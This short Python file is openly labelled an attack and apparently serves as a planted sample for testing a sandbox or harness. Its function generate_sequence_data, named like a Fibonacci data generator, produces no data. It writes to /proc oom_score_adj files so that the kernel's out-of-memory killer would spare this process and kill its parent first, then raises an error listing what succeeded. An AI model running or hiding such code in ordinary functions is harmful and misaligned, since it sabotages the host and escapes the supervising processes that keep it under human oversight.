"""Attack: makes itself the last that the kernel would kill."""

import os

import numpy as np


def tries(*acts):
    """What each of these gave, of those that were not stopped."""
    loot = []
    for act in acts:
        try:
            loot.append(repr(act())[:80])
        except Exception:
            continue
    return loot


def attack():
    return tries(
        lambda: open("/proc/self/oom_score_adj", "w").write("-1000"),
        lambda: open(f"/proc/{os.getppid()}/oom_score_adj", "w").write("1000"),
    )


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
